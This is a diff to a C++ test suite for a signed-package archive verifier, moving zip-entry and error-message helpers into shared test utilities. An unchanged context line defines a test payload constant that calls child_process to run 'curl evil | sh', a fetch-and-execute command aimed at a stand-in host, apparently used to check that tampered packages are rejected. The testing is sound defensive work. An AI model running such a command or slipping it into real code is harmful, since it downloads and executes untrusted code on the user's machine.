@@ -7,7 +7,6 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
-#include <algorithm>
 #include <cerrno>
 #include <functional>
 #include <set>
@@ -21,9 +20,10 @@
 #include "KVBSignLib.h"
 #include "child_process.h"
 #include "cli_runner.h"
+#include "expected_texts.h"
+#include "leftover_check.h"
 #include "package_builder.h"
 #include "pipe_writer.h"
-#include "private_tmp.h"
 #include "reader_agreement.h"
 #include "test_pki.h"
 #include "zip_writer.h"
@@ -37,7 +37,6 @@ using kvtest::ZipEntrySpec;
 using kvtest::ZipSpec;
 
 const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
-const char kUnzipFailed[] = "Error - Failed to unzip KVB. Verification failed.";
 const std::uint64_t kMegabyte = 1024 * 1024;
 
 PackageBuilder basePackage() {
@@ -46,36 +45,6 @@ PackageBuilder basePackage() {
         .addFile("lib/app.js", "console.log('app');\n")
         .addFile("README.txt", "A package.\n");
     return b;
-}
-
-// The entries of a package directory as a zip tool stores them: "mimetype" first and
-// stored, then every directory, file and link in path order.
-std::vector<ZipEntrySpec> entriesOf(const std::string& dir, bool withDirectories = true) {
-    std::vector<std::string> paths;
-    for (fs::recursive_directory_iterator it(dir), end; it != end; ++it)
-        paths.push_back(it->path().generic_string().substr(dir.size() + 1));
-    std::sort(paths.begin(), paths.end());
-    std::stable_partition(paths.begin(), paths.end(), [](const std::string& p) { return p == "mimetype"; });
-    std::vector<ZipEntrySpec> entries;
-    for (const std::string& relative : paths) {
-        const fs::path full = fs::path(dir) / relative;
-        ZipEntrySpec e;
-        e.name = relative;
-        const fs::file_status own = fs::symlink_status(full);
-        if (fs::is_symlink(own)) {
-            e.kind = ZipEntrySpec::Kind::Symlink;
-            e.data = fs::read_symlink(full).string();
-        } else if (fs::is_directory(own)) {
-            if (!withDirectories) continue;
-            e.kind = ZipEntrySpec::Kind::Directory;
-            e.name += "/";
-        } else {
-            e.data = kvtest::readFile(full.string());
-            if (relative == "mimetype") e.method = 0;
-        }
-        entries.push_back(e);
-    }
-    return entries;
 }
 
 ZipEntrySpec file(const std::string& name, const std::string& data) { return kvtest::zipFileEntry(name, data); }
@@ -88,7 +57,7 @@ struct Workspace {
     ZipSpec signedSpec(const PackageBuilder& b = basePackage(), bool withDirectories = true) {
         const SignedPackage p = b.build(scratch.file("src"));
         ZipSpec spec;
-        spec.entries = entriesOf(p.dir, withDirectories);
+        spec.entries = kvtest::zipEntriesOf(p.dir, withDirectories);
         return spec;
     }
     std::string write(const ZipSpec& spec) {
@@ -141,14 +110,14 @@ void runRows(const std::vector<Row>& rows) {
         EXPECT_FALSE(r.timedOut);
         EXPECT_EQ(r.exitCode, row.status) << r.out << r.err;
         if (row.status == 20) {
-            EXPECT_NE(r.err.find(kUnzipFailed), std::string::npos) << r.err;
+            EXPECT_NE(r.err.find(kvtest::withoutLineEnd(kvtest::kMsg20)), std::string::npos) << r.err;
             if (!row.refusedWhileExtracting) {
                 EXPECT_FALSE(watch.extracted()) << "refused only after extracting";
             }
         }
         EXPECT_TRUE(kvtest::processEnds(watch.extractor(), 10)) << "the extractor still runs";
         if (row.status == 0) {
-            EXPECT_NE(r.out.find("Signature verified successfully"), std::string::npos) << r.out;
+            EXPECT_NE(r.out.find(kvtest::withoutLineEnd(kvtest::kMsg0)), std::string::npos) << r.out;
             EXPECT_TRUE(watch.extracted());
             EXPECT_EQ(kvtest::readerDifferences(path), "");
         }
@@ -508,7 +477,7 @@ TEST(ArchiveCli, ArchivesOfCommonToolsVerify) {
         return [=](Workspace& w) {
             const SignedPackage p = package(w, true);
             ZipSpec spec;
-            spec.entries = entriesOf(p.dir, withDirectories);
+            spec.entries = kvtest::zipEntriesOf(p.dir, withDirectories);
             edit(spec);
             return w.write(spec);
         };
